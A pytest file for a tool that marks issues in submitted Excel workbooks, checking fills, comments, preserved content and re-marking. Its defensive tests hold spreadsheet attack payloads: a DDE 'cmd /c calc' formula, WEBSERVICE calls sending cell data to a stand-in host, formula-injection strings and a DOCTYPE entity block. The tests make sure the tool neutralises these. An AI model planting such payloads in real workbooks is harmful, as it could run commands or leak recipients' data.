"""Marking a workbook: the marks are where they should be, and everything else is as the sender left it."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
import xlsxwriter
from returns_example import (
    HEAD,
    HIDDEN,
    MAIN,
    OTHER,
    comments,
    differing,
    issue,
    looks,
    opened,
    parts,
    rich,
    tracked,
)

from pipeline.returns import annotate
from pipeline.returns.comments import AUTHOR
from pipeline.returns.listing import Head
from pipeline.returns.markup import CannotEdit
from pipeline.returns.package import Package
from pipeline.returns.resubmission import Tracked
from pipeline.returns.styles import FILLS

ISSUES = (
    issue("C5", found="+/-", place="Xã 2, tiêu chí 1"),
    issue("C5", "blank_mark", place="Xã 2, tiêu chí 1"),
    issue("B20", "blank_commune"),
    issue("J6", "declared_total", found="10", expected="9", place="Xã 3"),
    issue("D1", "heading_conflict", found="số 2, tên 3"),
    issue("A4", "number_missing", place="Xã 1"),
    issue("B3", "unreadable_number", sheet=OTHER, found="=1+1"),
    issue("A1", sheet=HIDDEN, found="mã"),
    issue(None, "hidden_sheet", sheet=HIDDEN, found=HIDDEN),
    issue(None, "wrong_period", sheet=None, found="2018-12", expected="2019-06"),
)
MARKED = {(MAIN, a) for a in ("C5", "B20", "J6", "A1", "A4")} | {(OTHER, "B3"), (HIDDEN, "A1")}


@pytest.fixture(scope="module")
def original() -> bytes:
    return rich()


@pytest.fixture(scope="module")
def marked(original: bytes) -> bytes:
    return annotate.mark(original, tracked(*ISSUES), HEAD)[0]


def fill(data: bytes, sheet: str, cell: str) -> str:
    return opened(data)[sheet][cell].fill.fgColor.rgb


def test_only_the_marked_cells_differ(original: bytes, marked: bytes) -> None:
    assert differing(original, marked) == MARKED


def test_cells_are_coloured_by_the_gravest_of_their_issues(marked: bytes) -> None:
    assert fill(marked, MAIN, "C5") == FILLS["warning"]
    assert fill(marked, MAIN, "A4") == FILLS["info"]
    # D1 lies inside the merged title: its first cell shows the mark.
    assert fill(marked, MAIN, "A1") == FILLS["critical"]


def test_a_marked_cell_keeps_all_of_its_look_but_the_fill(original: bytes, marked: bytes) -> None:
    before, after = looks(original)[MAIN, "C5"], looks(marked)[MAIN, "C5"]
    assert [i for i, (a, b) in enumerate(zip(before, after)) if a != b] == [4]  # value, type, format, font, FILL, …


def test_white_letters_turn_black_on_a_light_mark(original: bytes, marked: bytes) -> None:
    assert opened(original)[MAIN]["A1"].font.color.rgb == "FFFFFFFF"
    assert opened(marked)[MAIN]["A1"].font.color.rgb == "FF000000" and opened(marked)[MAIN]["A1"].font.b


def test_an_empty_cell_takes_the_style_of_its_column_and_the_mark(marked: bytes) -> None:
    assert opened(marked)[MAIN]["B20"].value is None
    assert fill(marked, MAIN, "B20") == FILLS["warning"]


def test_a_comment_says_what_was_found_what_is_needed_and_how_to_mend_it(marked: bytes) -> None:
    author, text = comments(marked)[MAIN, "J6"]
    assert author == AUTHOR
    assert text.splitlines() == [
        "▲ Cần kiểm tra",
        "Biểu ghi tổng 10, cộng từ các ô là 9 (Xã 3).",
        "Thấy: 10",
        "Cần: 9",
        "Cách sửa: Kiểm tra lại ô tổng hoặc các ô trong bảng.",
    ]


def test_several_issues_at_a_cell_share_a_comment_and_the_senders_own_stays_below(marked: bytes) -> None:
    text = comments(marked)[MAIN, "C5"][1]
    assert text.startswith("▲ Cần kiểm tra – 2 vấn đề\n▲ Không hiểu ký hiệu '+/-'")
    assert "▲ Ô để trống" in text
    assert text.endswith("\n—— Ghi chú sẵn có của Nguyễn Văn A:\nSố liệu của phòng & xã")
    assert comments(marked)[MAIN, "F9"] == ("Nguyễn Văn A", "ghi chú khác")


def test_every_comment_has_one_box(marked: bytes) -> None:
    boxes = {
        name: re.findall(rb"<x:Row>(\d+)</x:Row>\s*<x:Column>(\d+)</x:Column>", data)
        for name, data in parts(marked).items()
        if name.endswith(".vml")
    }
    assert sorted(len(b) for b in boxes.values()) == [1, 1, 6]
    assert all(len(set(b)) == len(b) for b in boxes.values())
    numbers = [n for name in boxes for n in re.findall(rb'id="_x0000_s(\d+)"', parts(marked)[name])]
    assert len(numbers) == len(set(numbers)) == 8


def test_the_list_stands_first_with_links_counts_and_legend(marked: bytes) -> None:
    book = opened(marked)
    assert book.sheetnames == ["Lỗi", MAIN, OTHER, HIDDEN]
    assert book.active.title == "Lỗi" and [ws.sheet_view.tabSelected for ws in book] == [True, None, None, None]
    sheet = book["Lỗi"]
    rows = [[c.value for c in row] for row in sheet.iter_rows(max_col=8)]
    assert [r[0] for r in rows if str(r[0]).startswith("Số vấn")] == [
        "Số vấn đề: ■ 2 nghiêm trọng · ▲ 7 cần kiểm tra · ● 1 để biết"
    ]
    assert {"■ Nghiêm trọng", "▲ Cần kiểm tra", "● Để biết"} <= {r[1] for r in rows[:12]}
    first = next(r for r in rows if r[0] == 1)
    assert first[2:6] == ["Cả tệp", "Biểu ghi kỳ 2018-12, nhưng tệp nằm trong kỳ 2019-06.", "2018-12", "2019-06"]
    links = {c.coordinate: c.hyperlink.location for c in sheet["C"] if c.hyperlink}
    assert set(links.values()) == {
        f"'{MAIN}'!{a}" for a in ("C5", "B20", "J6", "D1", "A4")
    } | {"'O''Brien! trang 2'!B3", f"'{HIDDEN}'!A1"}  # fmt: skip
    where = {c.value: links.get(c.coordinate) for c in sheet["C"] if c.coordinate in links}
    assert where[f"{OTHER}!B3"] == "'O''Brien! trang 2'!B3" and f"{HIDDEN} (trang ẩn)!A1" in where


LIVE = {
    "G4": 'WEBSERVICE("http://x/"&A4)',
    "G5": 'HYPERLINK("http://x","bấm")',
    "G6": "cmd|'/c calc'!A0",
    "G7": "[1]Sheet1!A1*2",
    "G8": "'D:\\a\\[b c.xlsx]Trang 1'!B2",
}
OWN = {"H4": "SUM(D4:D9)", "H5": 'HYPERLINK("#A1","lên")', "H6": "Table1[Số]+'Số (2)'!B3", "H7": 'IF(A4="a|b",1,2)'}


def test_a_formula_that_reaches_out_goes_back_as_text_beside_a_note() -> None:
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream, {"in_memory": True}) as book:
        sheet = book.add_worksheet(MAIN)
        sheet.write("C5", "?")
        look = book.add_format({"bold": True})
        for at, formula in {**LIVE, **OWN}.items():
            sheet.write_formula(at, f"={formula}", look, 7)
        sheet.write_formula("G9", '=WEBSERVICE("http://x/"&A9)', look, 7)
    package = Package(stream.getvalue())
    name = "xl/worksheets/sheet1.xml"
    text = package.read(name).decode()
    first, second = (f'<f>_xlfn.WEBSERVICE("http://x/"&amp;A{n})</f>' for n in (4, 9))
    first, second = (f if f in text else f.replace("_xlfn.", "") for f in (first, second))
    text = text.replace(first, first.replace("<f>", '<f t="shared" ref="G4:G9" si="0">'))
    package.put(name, text.replace(second, '<f t="shared" si="0"/>').encode())
    package.put(
        "xl/calcChain.xml",
        b'<calcChain xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><c r="G4" i="1"/></calcChain>',
    )
    package.relate("xl/workbook.xml", "calcChain", "xl/calcChain.xml")
    package.declare("xl/calcChain.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml")
    made, _ = annotate.mark(package.to_bytes(), tracked(issue("C5")), HEAD)
    there = opened(made)[MAIN]
    for at, formula in LIVE.items():
        cell = there[at]
        assert cell.data_type == "s" and cell.value.replace("_xlfn.", "") == f"={formula}", at
        assert "ngoài tệp" in cell.comment.text and cell.font.bold
    assert there["G9"].data_type == "s" and there["G9"].comment is not None  # one formula shared by two cells
    assert {at: there[at].value.lstrip("=") for at in OWN} == OWN and not any(there[at].comment for at in OWN)
    assert not any("calcChain" in str(part) for pair in parts(made).items() for part in pair)


def test_nothing_a_sender_typed_becomes_a_formula() -> None:
    nasty = [
        '=HYPERLINK("http://x")',
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "x\x00\x1b[31m\u202ey",
        "_x0041_",
        "]]></t><c>",
        "&lt;",
    ]
    issues = [issue(f"C{i}", found=text, place=text) for i, text in enumerate(nasty, 4)]
    made, _ = annotate.mark(rich(), tracked(*issues), Head(**{**vars(HEAD), "lines": tuple(nasty), "notice": "=1"}))
    assert not re.search(rb"<(\w+:)?f[ >/]", parts(made)["xl/worksheets/sheet4.xml"])
    cells = [c for row in opened(made)["Lỗi"].iter_rows() for c in row if c.value is not None]
    assert {c.data_type for c in cells} <= {"s", "n"} and all(
        c.quotePrefix for c in cells if c.column == 5 and c.row > 12
    )
    found = [c.value for c in opened(made)["Lỗi"]["E"]]
    assert '=HYPERLINK("http://x")' in found and "_x005F_x0041_" in found and "]]></t><c>" in found and "&lt;" in found
    assert not any(ch in str(c.value) for c in cells for ch in "\x00\x1b\u202e")


def test_charts_pictures_tables_rules_and_names_survive(original: bytes, marked: bytes) -> None:
    before, after = parts(original), parts(marked)
    touched = {n for n in before if before[n] != after.get(n)}
    assert touched == {
        "[Content_Types].xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml",
        "xl/comments1.xml", "xl/drawings/vmlDrawing1.vml", "xl/worksheets/_rels/sheet2.xml.rels",
        *(f"xl/worksheets/sheet{i}.xml" for i in (1, 2, 3)),
    }  # fmt: skip
    assert {"xl/charts/chart1.xml", "xl/media/image1.png", "xl/tables/table1.xml"} <= before.keys() - touched
    for name, kept in (
        ("sheet1", (b"conditionalFormatting", b"dataValidations", b"autoFilter", b"<drawing", b"<pane", b"mergeCells")),
        ("sheet2", (b"sheetProtection", b"tableParts")),
    ):
        for word in kept:
            pick = re.compile(rb"<" + word.lstrip(b"<") + rb"\b[^>]*(?:/>|>)")
            assert pick.search(before[f"xl/worksheets/{name}.xml"]), word
            assert pick.findall(before[f"xl/worksheets/{name}.xml"]) == pick.findall(after[f"xl/worksheets/{name}.xml"])
    book, old = opened(marked), opened(original)
    assert book["Ẩn"].sheet_state == "hidden" and book[OTHER].protection.sheet
    assert book.defined_names["VungSoLieu"].value == old.defined_names["VungSoLieu"].value
    assert book[MAIN].print_area == old[MAIN].print_area and book[MAIN].auto_filter.ref == "A3:F9"
    assert [(k, d.width) for k, d in book[MAIN].column_dimensions.items()] == [
        (k, d.width) for k, d in old[MAIN].column_dimensions.items()
    ]
    assert len(book[MAIN]._charts) == 1 and len(book[MAIN]._images) == 1


def test_the_parts_stand_in_the_order_the_standard_gives_them(marked: bytes) -> None:
    sheet = parts(marked)["xl/worksheets/sheet2.xml"]
    order = [sheet.index(b"<" + w) for w in (b"sheetProtection", b"pageMargins", b"legacyDrawing", b"tableParts")]
    assert order == sorted(order)
    rows = [int(r) for r in re.findall(rb'<row r="(\d+)"', parts(marked)["xl/worksheets/sheet1.xml"])]
    assert rows == sorted(rows) and 20 in rows
    in_row_6 = re.search(rb'<row r="6".*?</row>', parts(marked)["xl/worksheets/sheet1.xml"])
    assert in_row_6 and re.findall(rb'r="([A-Z])6"', in_row_6[0]) == [b"A", b"B", b"C", b"D", b"E", b"F", b"J"]


def test_the_same_input_gives_the_same_bytes(original: bytes, marked: bytes) -> None:
    assert annotate.mark(original, tracked(*ISSUES), HEAD)[0] == marked


def test_marks_of_an_earlier_return_are_taken_off_first(original: bytes, marked: bytes) -> None:
    again, _ = annotate.mark(marked, tracked(issue("D6", "unreadable_number", found="1,2,3")), HEAD)
    # B20 and J6 were made for their mark: they stay, empty, looking like their column.
    assert differing(original, again) == {(MAIN, "D6"), (MAIN, "B20"), (MAIN, "J6")}
    assert fill(again, MAIN, "B20") == "FFDDEBF7" and opened(again)[MAIN]["J6"].fill.fill_type is None
    assert opened(again).sheetnames == ["Lỗi", MAIN, OTHER, HIDDEN]
    assert comments(again).keys() == {(MAIN, "D6"), (MAIN, "C5"), (MAIN, "F9")}
    assert comments(again)[MAIN, "C5"] == ("Nguyễn Văn A", "Số liệu của phòng & xã")


def test_drawings_of_comments_stay_well_formed_with_foreign_prefixes(original: bytes, marked: bytes) -> None:
    """openpyxl writes the boxes of comments with prefixes of its own: ours must not lean on undeclared ones."""
    from xml.dom import minidom

    book = opened(marked)
    stream = io.BytesIO()
    book.save(stream)
    again, _ = annotate.mark(stream.getvalue(), tracked(*ISSUES), HEAD)
    drawings = [data for name, data in parts(again).items() if name.endswith(".vml")]
    assert len(drawings) == 3 and any(
        re.search(rb"<ns\d+:shape[ >]", data) for data in parts(stream.getvalue()).values()
    )
    for data in drawings:
        shapes = minidom.parseString(data).getElementsByTagNameNS("urn:schemas-microsoft-com:vml", "shape")
        places = [re.findall(r"<\w+:(?:Row|Column)>(\d+)<", s.toxml()) for s in shapes]
        assert places and len({tuple(p) for p in places}) == len(places)


def test_a_senders_own_sheet_of_that_name_is_left_alone() -> None:
    import openpyxl

    book = openpyxl.Workbook()
    book.active.title = "Lỗi"  # type: ignore[union-attr]
    book.active["A1"] = "của huyện"  # type: ignore[index]
    stream = io.BytesIO()
    book.save(stream)
    made, _ = annotate.mark(stream.getvalue(), tracked(issue("A1", sheet="Lỗi", found="x")), HEAD)
    assert opened(made).sheetnames == ["Lỗi (2)", "Lỗi"] and opened(made)["Lỗi"]["A1"].value == "của huyện"


def test_a_range_is_coloured_whole_and_commented_once() -> None:
    made, _ = annotate.mark(rich(), tracked(issue("C4:D5", "merged_mark", found="C4:D5")), HEAD)
    assert all(fill(made, MAIN, a) == FILLS["warning"] for a in ("C4", "D4", "C5", "D5"))
    assert [k for k, (author, _) in comments(made).items() if author == AUTHOR] == [(MAIN, "C4")]


def test_issues_that_were_mended_are_listed_grey_at_the_end_and_mark_nothing(original: bytes) -> None:
    entries = [
        Tracked(ISSUES[0], "fixed"),
        Tracked(issue("D6", found="?"), "new"),
        Tracked(issue("D7", found="k"), "open"),
    ]
    head = Head(**{**vars(HEAD), "compared_with": "bản trước (Bieu.xlsx, đề ngày 10/6/2019)"})
    made, _ = annotate.mark(original, entries, head)
    assert differing(original, made) == {(MAIN, "D6"), (MAIN, "D7")}
    sheet = opened(made)["Lỗi"]
    rows = [row for row in sheet.iter_rows() if isinstance(row[0].value, int)]
    assert [(r[2].value, r[7].value) for r in rows] == [
        (f"{MAIN}!D6", "✚ Mới"), (f"{MAIN}!D7", "○ Vẫn còn"), (f"{MAIN}!C5", "✓ Đã sửa")
    ]  # fmt: skip
    assert [r[3].font.color.rgb for r in rows] == ["FF000000", "FF000000", "FF8C8C8C"]
    assert [bool(r[2].hyperlink) for r in rows] == [True, True, False]
    assert any("đã sửa 1, vẫn còn 1, mới 1" in str(c.value) for c in sheet["A"])
    assert "Tình trạng: vẫn còn" in comments(made)[MAIN, "D7"][1]


def test_prefixed_xml_without_styles_or_addresses_is_edited_too() -> None:
    """Some programs write every element with a prefix, leave addresses out, or have no style sheet."""
    main = 'xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    kinds = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    content = {
        "[Content_Types].xml": f'<Types xmlns="{package}/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{kinds}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kinds}.worksheet+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="a" Type="{office}/officeDocument" '
        'Target="/xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<x:workbook {main} xmlns:q="{office}"><x:sheets><x:sheet name="T" sheetId="9" q:id="k"/></x:sheets>'
        "</x:workbook>",
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="k" '
        f'Type="{office}/worksheet" Target="/xl/worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f"<x:worksheet {main}><x:sheetData><x:row><x:c t='inlineStr'><x:is><x:t>a &gt; b</x:t>"
        "</x:is></x:c><x:c><x:v>2</x:v></x:c></x:row></x:sheetData></x:worksheet>",
    }
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, text in content.items():
            archive.writestr(name, text)
    made, suffix = annotate.mark(
        stream.getvalue(), tracked(issue("B1", sheet="T", found="2"), issue("B2", sheet="T")), HEAD
    )
    book = opened(made)
    assert suffix == ".xlsx" and book.sheetnames == ["Lỗi", "T"]
    assert (book["T"]["A1"].value, book["T"]["B1"].value) == ("a > b", 2)
    assert fill(made, "T", "B1") == fill(made, "T", "B2") == FILLS["warning"]
    assert comments(made).keys() == {("T", "B1"), ("T", "B2")}


def test_macros_keep_their_suffix_and_bytes(original: bytes) -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, data in parts(original).items():
            kind = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
            archive.writestr(name, data.replace(kind, b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"))
        archive.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")
    made, suffix = annotate.mark(stream.getvalue(), tracked(*ISSUES), HEAD)
    assert suffix == ".xlsm" and parts(made)["xl/vbaProject.bin"] == b"\xd0\xcf\x11\xe0 macro"


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04 nothing", b"a;b\n1;2"])
def test_what_is_no_package_cannot_be_edited(data: bytes) -> None:
    with pytest.raises(CannotEdit):
        annotate.mark(data, tracked(*ISSUES), HEAD)


def test_a_part_with_a_document_type_is_refused(original: bytes) -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, data in parts(original).items():
            archive.writestr(name, b'<!DOCTYPE a [<!ENTITY b "c">]>' + data if name.endswith("sheet1.xml") else data)
    with pytest.raises(CannotEdit):
        annotate.mark(stream.getvalue(), tracked(*ISSUES), HEAD)


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_workbooks_saved_by_libreoffice_are_marked_and_cleaned_alike(original: bytes, tmp_path: Path) -> None:
    def saved(data: bytes, name: str) -> bytes:
        source = tmp_path / "in" / name
        source.parent.mkdir(exist_ok=True)
        source.write_bytes(data)
        profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
        command = ["soffice", profile, "--headless", "--convert-to", "xlsx", "--outdir", str(tmp_path), str(source)]
        subprocess.run(command, capture_output=True, check=True, timeout=120)
        return (tmp_path / name).read_bytes()

    theirs = saved(original, "bieu.xlsx")
    made, _ = annotate.mark(theirs, tracked(*ISSUES), HEAD)
    assert differing(theirs, made) == MARKED
    mended = saved(made, "sua.xlsx")  # LibreOffice forgets who wrote a comment
    assert opened(mended).sheetnames == ["Lỗi", MAIN, OTHER, HIDDEN]
    assert opened(mended)["Lỗi"].column_dimensions["L"].hidden
    clean, _ = annotate.mark(mended, [], HEAD)
    assert not [fill for fill in (looks(clean)[k][4] for k in MARKED) if any(c in fill for c in FILLS.values())]
    assert comments(clean).keys() == {(MAIN, "C5"), (MAIN, "F9")}
    assert comments(clean)[MAIN, "C5"][1] == "Số liệu của phòng & xã"
